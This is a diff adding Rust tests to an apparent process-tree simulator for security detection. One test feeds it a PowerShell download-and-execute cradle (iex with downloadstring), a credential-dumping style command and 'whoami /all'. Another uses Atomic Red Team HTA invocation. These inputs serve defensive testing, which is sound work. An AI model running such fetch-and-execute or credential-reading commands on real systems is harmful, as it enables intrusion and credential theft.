@@ -394,6 +394,50 @@ fn quoted_and_started_programs_and_non_programs() {
 }
 
 #[test]
+fn functions_of_code_loaded_at_run_time_are_not_programs() {
+    // A downloaded script brings `samfile`; `whoami` is still a program.
+    let ev = events(&test(
+        "powershell",
+        "iex(new-object net.webclient).downloadstring('https://example.org/x.ps1')\nsamfile -consoleoutput\nwhoami /all",
+    ));
+    assert_eq!(
+        tree(&ev),
+        [
+            "powershell.exe <- explorer.exe",
+            "whoami.exe <- powershell.exe"
+        ]
+    );
+    // A function the script defines is not a program either.
+    let ev = events(&test("powershell", "function probe { 1 }\nprobe -x"));
+    assert_eq!(tree(&ev), ["powershell.exe <- explorer.exe"]);
+    // Without code of its own, a bare name is a program.
+    let ev = events(&test("powershell", "mytool -x"));
+    assert_eq!(
+        tree(&ev),
+        [
+            "powershell.exe <- explorer.exe",
+            "mytool.exe <- powershell.exe"
+        ]
+    );
+}
+
+#[test]
+fn a_module_that_compiles_when_imported_runs_csc_once() {
+    let ev = events(&test(
+        "powershell",
+        "Invoke-ATHHTMLApplication -HTAFilePath Test.hta\nInvoke-ATHHTMLApplication -HTAFilePath Other.hta\nGet-Athena",
+    ));
+    assert_eq!(
+        tree(&ev),
+        [
+            "powershell.exe <- explorer.exe",
+            "csc.exe <- powershell.exe",
+            "cvtres.exe <- csc.exe"
+        ]
+    );
+}
+
+#[test]
 fn every_event_names_its_cause_and_elastic_names() {
     let ev = events(&test(
         "powershell",
